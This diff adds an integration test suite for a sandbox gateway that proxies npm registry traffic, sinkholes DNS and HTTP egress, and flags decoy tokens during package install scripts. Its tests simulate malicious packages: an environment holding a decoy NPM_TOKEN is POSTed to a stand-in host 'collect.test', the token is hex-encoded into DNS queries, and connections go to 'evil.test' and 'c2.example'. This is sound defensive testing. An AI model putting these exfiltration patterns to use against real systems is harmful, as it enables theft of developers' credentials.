@@ -1,0 +1,381 @@
+/**
+ * Gateway and forwarder together, on loopback and unix sockets only: a fake registry on 127.0.0.1,
+ * the forwarder on free loopback ports (standing for 3128, 53, 80 and 443), the gateway on a unix
+ * socket in a temp dir. Names like `collect.test` are never resolved for real: the forwarder's DNS
+ * answers them, and the one allowed name is pointed at loopback by `hostsOverride`.
+ */
+import { createHash, randomBytes } from 'node:crypto';
+import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { connect } from 'node:net';
+import { connect as tlsConnect } from 'node:tls';
+import type { DecoyIndex } from '@safe-install/schema';
+import { validateGatewayConfig, type GatewayConfig } from './config.js';
+import { DNS_TYPE, parseDnsAnswers } from './dns/message.js';
+import { startForwarder, type BoundAddress, type StartedForwarder } from './forwarder/forwarder.js';
+import { createProcNetIdentify } from './forwarder/identify.js';
+import type { GatewayEvent } from './gateway/event-log.js';
+import { startGateway, type StartedGateway } from './gateway/server.js';
+import type { ClientIdentity } from './protocol.js';
+import { dnsOverUdp, fakeNpmToken, request, startFakeRegistry, startRecordingServer, type FakePackage, type FakeRegistry } from './test-support/fake-registry.js';
+
+const REAL_TOKEN = `real-${randomBytes(12).toString('hex')}`;
+const NPM_DECOY = fakeNpmToken();
+const decoys: DecoyIndex = { values: [{ kind: 'npm-token', value: NPM_DECOY, plantedAt: ['env:NPM_TOKEN'] }], files: [] };
+const demo: FakePackage = { name: 'demo-pkg', version: '1.0.0', tarball: randomBytes(5000) };
+const scoped: FakePackage = { name: '@acme/widget', version: '2.1.0', tarball: randomBytes(3000) };
+
+let dir: string;
+let registry: FakeRegistry;
+let allowedHttp: Awaited<ReturnType<typeof startRecordingServer>>;
+let allowedRaw: Awaited<ReturnType<typeof startRecordingServer>>;
+let forwarder: StartedForwarder;
+let gateway: StartedGateway;
+let config: GatewayConfig;
+let identity: ClientIdentity = {};
+const events: GatewayEvent[] = [];
+const procNet = createProcNetIdentify();
+
+function bound(kind: BoundAddress['kind'], servicePort?: number): number {
+  const address = forwarder.addresses.find((entry) => entry.kind === kind && (servicePort === undefined || entry.servicePort === servicePort));
+  if (!address) throw new Error(`no ${kind} listener`);
+  return address.port;
+}
+
+const proxyPort = (): number => bound('proxy');
+
+function last<T extends GatewayEvent['type']>(type: T, predicate: (event: Extract<GatewayEvent, { type: T }>) => boolean = () => true): Extract<GatewayEvent, { type: T }> {
+  const found = events.filter((event): event is Extract<GatewayEvent, { type: T }> => event.type === type && predicate(event as Extract<GatewayEvent, { type: T }>));
+  const event = found[found.length - 1];
+  if (!event) throw new Error(`no ${type} event`);
+  return event;
+}
+
+/** Events are written after the response: give the gateway a moment. */
+async function settle(): Promise<void> {
+  await new Promise((resolve) => setTimeout(resolve, 50));
+}
+
+beforeAll(async () => {
+  dir = mkdtempSync(join(tmpdir(), 'gateway-it-'));
+  registry = await startFakeRegistry([demo, scoped], REAL_TOKEN);
+  allowedHttp = await startRecordingServer((data) => (data.includes('\r\n\r\n') ? 'HTTP/1.1 200 OK\r\nContent-Length: 13\r\nConnection: close\r\n\r\nhello-allowed' : null));
+  allowedRaw = await startRecordingServer((data) => (data.length > 100 ? 'raw-ok' : null));
+  forwarder = await startForwarder({
+    socketDir: join(dir, 'sock'),
+    identify: async (query) => ({ ...(await procNet(query)), ...identity }),
+    proxy: [{ host: '127.0.0.1', port: 0, servicePort: 3128 }],
+    dns: [{ host: '127.0.0.1', port: 0, servicePort: 53 }],
+    // The "443" listener stands for allowedRaw's port, so an allowed TLS splice lands on that server.
+    sink: [
+      { host: '127.0.0.1', port: 0, servicePort: 80 },
+      { host: '127.0.0.1', port: 0, servicePort: allowedRaw.port },
+    ],
+  });
+  const checked = validateGatewayConfig({
+    socketDir: join(dir, 'sock'),
+    eventsFile: join(dir, 'out', 'gateway.jsonl'),
+    cacheDir: join(dir, 'cache'),
+    registries: [
+      { prefix: '/r/0/', upstream: `${registry.origin}/`, auth: { type: 'bearer', value: REAL_TOKEN } },
+      { prefix: '/r/1/', upstream: `${registry.origin}/`, auth: { type: 'bearer', value: REAL_TOKEN } },
+    ],
+    strictSsl: true,
+    allow: { global: [], packages: { 'pkg-a': [`allowed.test:${allowedHttp.port}`, `allowed.test:${allowedRaw.port}`] } },
+    decoys,
+    sinkAddress: '127.10.0.1',
+    advertisedOrigin: `http://127.0.0.1:${proxyPort()}`,
+    hostsOverride: { 'allowed.test': '127.0.0.1' },
+  });
+  if (!checked.value) throw new Error(checked.errors.join('; '));
+  config = checked.value;
+  gateway = await startGateway(config, { onEvent: (event) => events.push(event) });
+});
+
+afterAll(async () => {
+  await forwarder?.close();
+  await gateway?.close();
+  await registry?.close();
+  await allowedHttp?.close();
+  await allowedRaw?.close();
+  rmSync(dir, { recursive: true, force: true });
+});
+
+beforeEach(() => {
+  identity = {};
+});
+
+describe('registry proxy', () => {
+  test('a packument comes back with tarball URLs pointing at the gateway; the upstream saw the real token', async () => {
+    const before = registry.requests.length;
+    const response = await request({ host: '127.0.0.1', port: proxyPort(), path: '/r/0/demo-pkg', headers: { accept: 'application/json' } });
+    expect(response.status).toBe(200);
+    const packument = JSON.parse(response.body.toString('utf8')) as { versions: Record<string, { dist: { tarball: string } }> };
+    expect(packument.versions['1.0.0']?.dist.tarball).toBe(`http://127.0.0.1:${proxyPort()}/r/0/demo-pkg/-/demo-pkg-1.0.0.tgz`);
+    const seen = registry.requests.slice(before);
+    expect(seen).toEqual([expect.objectContaining({ method: 'GET', url: '/demo-pkg', authorization: `Bearer ${REAL_TOKEN}` })]);
+    await settle();
+    expect(last('http', (event) => event.url.endsWith('/demo-pkg'))).toMatchObject({ decision: 'registry', status: 200, upstream: true, method: 'GET' });
+  });
+
+  test('the abbreviated (corgi) packument of a scoped package is rewritten too, under its own prefix', async () => {
+    const response = await request({ host: '127.0.0.1', port: proxyPort(), path: '/r/1/@acme%2fwidget', headers: { accept: 'application/vnd.npm.install-v1+json; q=1.0, application/json; q=0.8, */*' } });
+    expect(response.status).toBe(200);
+    expect(response.headers['content-type']).toBe('application/vnd.npm.install-v1+json');
+    const packument = JSON.parse(response.body.toString('utf8')) as { versions: Record<string, { dist: { tarball: string } }> };
+    expect(packument.versions['2.1.0']?.dist.tarball).toBe(`http://127.0.0.1:${proxyPort()}/r/1/@acme/widget/-/widget-2.1.0.tgz`);
+    expect(registry.requests[registry.requests.length - 1]?.accept).toContain('application/vnd.npm.install-v1+json');
+  });
+
+  test('a tarball is fetched once; the second time it comes from the cache and the upstream sees nothing', async () => {
+    const path = '/r/0/demo-pkg/-/demo-pkg-1.0.0.tgz';
+    const before = registry.requests.length;
+    const first = await request({ host: '127.0.0.1', port: proxyPort(), path });
+    expect(first.status).toBe(200);
+    expect(createHash('sha512').update(first.body).digest('base64')).toBe(createHash('sha512').update(demo.tarball).digest('base64'));
+    await settle();
+    expect(last('http', (event) => event.url.endsWith('.tgz'))).toMatchObject({ decision: 'registry', upstream: true, bytes: demo.tarball.length });
+    const second = await request({ host: '127.0.0.1', port: proxyPort(), path });
+    expect(second.body.equals(demo.tarball)).toBe(true);
+    await settle();
+    expect(last('http', (event) => event.url.endsWith('.tgz'))).toMatchObject({ decision: 'registry', upstream: false, status: 200 });
+    expect(registry.requests.slice(before).filter((seen) => seen.url.endsWith('.tgz'))).toHaveLength(1);
+  });
+
+  test('absolute-form requests to the proxy itself (npm with HTTP_PROXY set) are registry requests', async () => {
+    const response = await request({ host: '127.0.0.1', port: proxyPort(), path: `http://127.0.0.1:${proxyPort()}/r/0/demo-pkg/-/demo-pkg-1.0.0.tgz` });
+    expect(response.status).toBe(200);
+    expect(response.body.equals(demo.tarball)).toBe(true);
+  });
+
+  test('keep-alive: several requests on one connection', async () => {
+    const socket = connect({ host: '127.0.0.1', port: proxyPort() });
+    const path = '/r/0/demo-pkg/-/demo-pkg-1.0.0.tgz';
+    socket.write(`GET ${path} HTTP/1.1\r\nHost: x\r\n\r\nHEAD ${path} HTTP/1.1\r\nHost: x\r\n\r\nGET /r/0/-/whoami HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`);
+    const chunks: Buffer[] = [];
+    socket.on('data', (chunk: Buffer) => chunks.push(chunk));
+    await new Promise((resolve) => socket.on('close', resolve));
+    const text = Buffer.concat(chunks).toString('latin1');
+    expect(text.match(/HTTP\/1\.1 \d{3}/g)).toEqual(['HTTP/1.1 200', 'HTTP/1.1 200', 'HTTP/1.1 403']);
+    expect(Buffer.concat(chunks).length).toBeGreaterThan(demo.tarball.length);
+  });
+
+  test('a warm second gateway (same cache) serves packuments and tarballs without contacting the upstream', async () => {
+    const warmEvents: GatewayEvent[] = [];
+    const socketDir = join(dir, 'sock2');
+    const warmForwarder = await startForwarder({ socketDir, proxy: [{ host: '127.0.0.1', port: 0 }], dns: [{ host: '127.0.0.1', port: 0 }], sink: [] });
+    const warmPort = warmForwarder.addresses.find((entry) => entry.kind === 'proxy')?.port as number;
+    const warm = await startGateway({ ...config, socketDir, eventsFile: join(dir, 'out', 'warm.jsonl'), advertisedOrigin: `http://127.0.0.1:${warmPort}` }, { onEvent: (event) => warmEvents.push(event) });
+    try {
+      const before = registry.requests.length;
+      const packument = await request({ host: '127.0.0.1', port: warmPort, path: '/r/0/demo-pkg', headers: { accept: 'application/json' } });
+      expect(JSON.parse(packument.body.toString('utf8')).versions['1.0.0'].dist.tarball).toBe(`http://127.0.0.1:${warmPort}/r/0/demo-pkg/-/demo-pkg-1.0.0.tgz`);
+      const tarball = await request({ host: '127.0.0.1', port: warmPort, path: '/r/0/demo-pkg/-/demo-pkg-1.0.0.tgz' });
+      expect(tarball.body.equals(demo.tarball)).toBe(true);
+      await settle();
+      expect(registry.requests.length).toBe(before);
+      expect(warmEvents.filter((event) => event.type === 'http').map((event) => (event as { upstream?: boolean }).upstream)).toEqual([false, false]);
+      const lines = readFileSync(join(dir, 'out', 'warm.jsonl'), 'utf8').trim().split('\n');
+      expect(lines.map((line) => JSON.parse(line).id)).toEqual(['g1', 'g2']);
+    } finally {
+      await warmForwarder.close();
+      await warm.close();
+    }
+  });
+
+  test.each([
+    ['GET', '/r/0/-/whoami'],
+    ['GET', '/r/0/-/v1/search?text=x'],
+    ['PUT', '/r/0/demo-pkg'],
+    ['GET', '/r/0/-/npm/v1/tokens'],
+    ['DELETE', '/r/0/-/package/demo-pkg/dist-tags/latest'],
+  ])('%s %s is refused, recorded, and never reaches the upstream', async (method, path) => {
+    const before = registry.requests.length;
+    identity = { package: { name: 'pkg-b', version: '1.0.0' }, lifecycle: 'postinstall' };
+    const response = await request({ host: '127.0.0.1', port: proxyPort(), method, path, headers: { authorization: `Bearer ${NPM_DECOY}` }, ...(method === 'PUT' ? { body: '{}' } : {}) });
+    expect(response.status).toBe(403);
+    expect(registry.requests.length).toBe(before);
+    await settle();
+    const refused = last('http', (event) => event.method === method && event.url.includes(path.replace('/r/0/', '/').split('?')[0] as string));
+    expect(refused).toMatchObject({ decision: 'denied', status: 403, package: { name: 'pkg-b', version: '1.0.0' }, lifecycle: 'postinstall' });
+    // The decoy token the script sent along is itself evidence.
+    expect(last('decoy-exfiltration')).toMatchObject({ decoyKind: 'npm-token', where: 'header', seenIn: refused.id });
+  });
+});
+
+describe('DNS sink', () => {
+  test('a query for <hex of a hostname>.exfil.invalid is recorded and answered with the sink address', async () => {
+    identity = { package: { name: 'pkg-b', version: '1.0.0' }, lifecycle: 'preinstall' };
+    const name = `${Buffer.from('build-host-17').toString('hex')}.exfil.invalid`;
+    const answer = parseDnsAnswers(await dnsOverUdp(bound('dns-udp'), name, DNS_TYPE.A));
+    expect(answer).toEqual({ rcode: 0, answers: [{ type: DNS_TYPE.A, data: Buffer.from([127, 10, 0, 1]) }] });
+    await settle();
+    const event = last('dns', (candidate) => candidate.name === name);
+    expect(event).toMatchObject({ qtype: 'A', answered: 'sinked', package: { name: 'pkg-b' }, lifecycle: 'preinstall', source: 'gateway', pid: 0 });
+    // The default identify found the client's socket in /proc/net/udp.
+    expect(event.socket).toMatch(/^\d+$/);
+  });
+
+  test('AAAA gets an empty answer; TXT too', async () => {
+    for (const qtype of [DNS_TYPE.AAAA, DNS_TYPE.TXT]) {
+      const answer = parseDnsAnswers(await dnsOverUdp(bound('dns-udp'), 'collect.test', qtype));
+      expect(answer).toEqual({ rcode: 0, answers: [] });
+    }
+  });
+
+  test('a decoy token hex-encoded and split across labels is found', async () => {
+    const hex = Buffer.from(NPM_DECOY).toString('hex');
+    const name = `${hex.slice(0, 50)}.${hex.slice(50)}.x.exfil.invalid`;
+    await dnsOverUdp(bound('dns-udp'), name, DNS_TYPE.A);
+    await settle();
+    const dns = last('dns', (event) => event.name === name);
+    expect(last('decoy-exfiltration')).toMatchObject({ decoyKind: 'npm-token', where: 'dns', encoding: 'hex', seenIn: dns.id });
+  });
+
+  test('DNS over TCP works the same', async () => {
+    const socket = connect({ host: '127.0.0.1', port: bound('dns-tcp') });
+    const { buildDnsQuery } = await import('./dns/message.js');
+    const { frameDnsMessage, DnsFrameSplitter } = await import('./dns/framing.js');
+    socket.write(frameDnsMessage(buildDnsQuery(7, 'tcp.exfil.invalid', DNS_TYPE.A)));
+    const splitter = new DnsFrameSplitter();
+    const message = await new Promise<Buffer>((resolve) => socket.on('data', (chunk: Buffer) => splitter.push(chunk).forEach(resolve)));
+    socket.destroy();
+    expect(parseDnsAnswers(message)?.answers[0]?.data).toEqual(Buffer.from([127, 10, 0, 1]));
+  });
+});
+
+describe('sinkhole and egress policy', () => {
+  test('a POST of the environment to http://collect.test/ (resolved through the DNS sink) is sinkholed with its body as evidence', async () => {
+    identity = { package: { name: 'evil-pkg', version: '6.6.6' }, lifecycle: 'postinstall' };
+    const answer = parseDnsAnswers(await dnsOverUdp(bound('dns-udp'), 'collect.test', DNS_TYPE.A));
+    expect(answer?.answers[0]?.data).toEqual(Buffer.from([127, 10, 0, 1]));
+    // The sink's "port 80" listens on a free loopback port here; the request is what Node would send to collect.test.
+    const body = JSON.stringify({ HOME: '/home/node', NPM_TOKEN: NPM_DECOY, CI: 'true' });
+    const response = await request({ host: '127.0.0.1', port: bound('sink', 80), method: 'POST', path: '/', headers: { host: 'collect.test', 'content-type': 'application/json' }, body });
+    expect(response.status).toBe(200);
+    expect(response.body.toString()).toBe('{}');
+    await settle();
+    const sinked = last('http', (event) => event.host === 'collect.test');
+    expect(sinked).toMatchObject({ decision: 'sinked', method: 'POST', url: 'http://collect.test/', port: 80, package: { name: 'evil-pkg', version: '6.6.6' }, request: { body, bodyBytes: body.length } });
+    expect(sinked.request?.headers['content-type']).toBe('application/json');
+    expect(last('decoy-exfiltration')).toMatchObject({ decoyKind: 'npm-token', where: 'body', encoding: 'plain', seenIn: sinked.id, package: { name: 'evil-pkg' } });
+  });
+
+  test('the same through the proxy, base64-encoded and chunked, is found too', async () => {
+    identity = { package: { name: 'evil-pkg', version: '6.6.6' } };
+    const body = Buffer.from(JSON.stringify({ env: { PATH: '/usr/bin', NPM_TOKEN: NPM_DECOY } })).toString('base64');
+    const response = await request({ host: '127.0.0.1', port: proxyPort(), method: 'POST', path: 'http://collect.test/upload?id=1', headers: { host: 'collect.test', 'transfer-encoding': 'chunked' }, body });
+    expect(response.status).toBe(200);
+    await settle();
+    const sinked = last('http', (event) => event.url === 'http://collect.test/upload?id=1');
+    expect(sinked).toMatchObject({ decision: 'sinked', request: { bodyBytes: body.length } });
+    expect(last('decoy-exfiltration')).toMatchObject({ decoyKind: 'npm-token', where: 'body', encoding: 'base64', seenIn: sinked.id });
+  });
+
+  test('CONNECT to a host nobody allowed is refused and attributed to the package', async () => {
+    identity = { package: { name: 'pkg-b', version: '1.0.0' }, lifecycle: 'install' };
+    const tunnel = await openTunnel(proxyPort(), 'evil.test:443');
+    expect(tunnel.status).toBe(403);
+    tunnel.socket.destroy();
+    await settle();
+    expect(last('http', (event) => event.method === 'CONNECT')).toMatchObject({ decision: 'denied', host: 'evil.test', port: 443, status: 403, package: { name: 'pkg-b', version: '1.0.0' }, lifecycle: 'install' });
+  });
+
+  test('package A may reach allowed.test through the proxy (HTTP and CONNECT); package B may not', async () => {
+    const url = `http://allowed.test:${allowedHttp.port}/hello`;
+    identity = { package: { name: 'pkg-a', version: '1.0.0' } };
+    const allowed = await request({ host: '127.0.0.1', port: proxyPort(), path: url, headers: { host: `allowed.test:${allowedHttp.port}` } });
+    expect(allowed.body.toString()).toBe('hello-allowed');
+    await settle();
+    expect(last('http', (event) => event.url === url)).toMatchObject({ decision: 'allowed', status: 200, package: { name: 'pkg-a' } });
+    expect(allowedHttp.received[allowedHttp.received.length - 1]?.toString('latin1')).toMatch(/^GET \/hello HTTP\/1\.1\r\n/);
+
+    const tunnel = await openTunnel(proxyPort(), `allowed.test:${allowedHttp.port}`);
+    expect(tunnel.status).toBe(200);
+    tunnel.socket.write(`GET /via-tunnel HTTP/1.1\r\nHost: allowed.test\r\n\r\n`);
+    expect(await readAll(tunnel.socket)).toContain('hello-allowed');
+
+    identity = { package: { name: 'pkg-b', version: '1.0.0' } };
+    const received = allowedHttp.received.length;
+    const denied = await request({ host: '127.0.0.1', port: proxyPort(), path: url, headers: { host: `allowed.test:${allowedHttp.port}` } });
+    expect(denied.body.toString()).toBe('{}');
+    const deniedTunnel = await openTunnel(proxyPort(), `allowed.test:${allowedHttp.port}`);
+    expect(deniedTunnel.status).toBe(403);
+    deniedTunnel.socket.destroy();
+    await settle();
+    expect(allowedHttp.received.length).toBe(received);
+    expect(last('http', (event) => event.url === url)).toMatchObject({ decision: 'sinked', package: { name: 'pkg-b' } });
+    expect(last('http', (event) => event.method === 'CONNECT')).toMatchObject({ decision: 'denied', package: { name: 'pkg-b' } });
+  });
+
+  test('TLS to the sink: an allowed server name is spliced through; another is recorded and closed', async () => {
+    identity = { package: { name: 'pkg-a', version: '1.0.0' } };
+    const port = bound('sink', allowedRaw.port);
+    const received = allowedRaw.received.length;
+    await tlsAttempt(port, 'allowed.test');
+    await settle();
+    expect(allowedRaw.received.length).toBe(received + 1);
+    const hello = allowedRaw.received[allowedRaw.received.length - 1] as Buffer;
+    expect(hello[0]).toBe(0x16);
+    expect(hello.includes(Buffer.from('allowed.test'))).toBe(true);
+    expect(last('http', (event) => event.method === 'TLS')).toMatchObject({ decision: 'allowed', host: 'allowed.test', port: allowedRaw.port });
+
+    identity = { package: { name: 'pkg-b', version: '1.0.0' } };
+    await tlsAttempt(port, 'allowed.test');
+    await tlsAttempt(port, 'c2.example');
+    await settle();
+    expect(allowedRaw.received.length).toBe(received + 1);
+    expect(last('http', (event) => event.method === 'TLS')).toMatchObject({ decision: 'denied', host: 'c2.example', package: { name: 'pkg-b' } });
+  });
+});
+
+test('the events file holds every event, one JSON object per line, in order', async () => {
+  await settle();
+  const lines = readFileSync(config.eventsFile, 'utf8').trim().split('\n').map((line) => JSON.parse(line) as GatewayEvent);
+  expect(lines.length).toBe(events.length);
+  expect(lines.map((event) => event.id)).toEqual(events.map((event) => event.id));
+  expect(lines.every((event) => event.source === 'gateway' && typeof event.ts === 'number')).toBe(true);
+  // The real token never appears in anything the sandbox side could be shown.
+  expect(readFileSync(config.eventsFile, 'utf8')).not.toContain(REAL_TOKEN);
+});
+
+function openTunnel(port: number, authority: string): Promise<{ status: number; socket: import('node:net').Socket }> {
+  return new Promise((resolve) => {
+    const socket = connect({ host: '127.0.0.1', port });
+    socket.write(`CONNECT ${authority} HTTP/1.1\r\nHost: ${authority}\r\n\r\n`);
+    let data = Buffer.alloc(0);
+    const onData = (chunk: Buffer): void => {
+      data = Buffer.concat([data, chunk]);
+      const end = data.indexOf('\r\n\r\n');
+      if (end < 0) return;
+      socket.off('data', onData);
+      socket.pause();
+      const rest = data.subarray(end + 4);
+      if (rest.length > 0) socket.unshift(rest);
+      resolve({ status: Number(/^HTTP\/1\.1 (\d{3})/.exec(data.toString('latin1'))?.[1]), socket });
+    };
+    socket.on('data', onData);
+    socket.on('error', () => resolve({ status: 0, socket }));
+  });
+}
+
+async function readAll(socket: import('node:net').Socket): Promise<string> {
+  const chunks: Buffer[] = [];
+  socket.resume();
+  for await (const chunk of socket) chunks.push(chunk as Buffer);
+  return Buffer.concat(chunks).toString('latin1');
+}
+
+/** A TLS client hello to the sink; resolves when the connection ends, whatever happened. */
+function tlsAttempt(port: number, servername: string): Promise<void> {
+  return new Promise((resolve) => {
+    const socket = tlsConnect({ host: '127.0.0.1', port, servername, rejectUnauthorized: false });
+    socket.on('error', () => resolve());
+    socket.on('close', () => resolve());
+    setTimeout(() => {
+      socket.destroy();
+      resolve();
+    }, 2000).unref();
+  });
+}
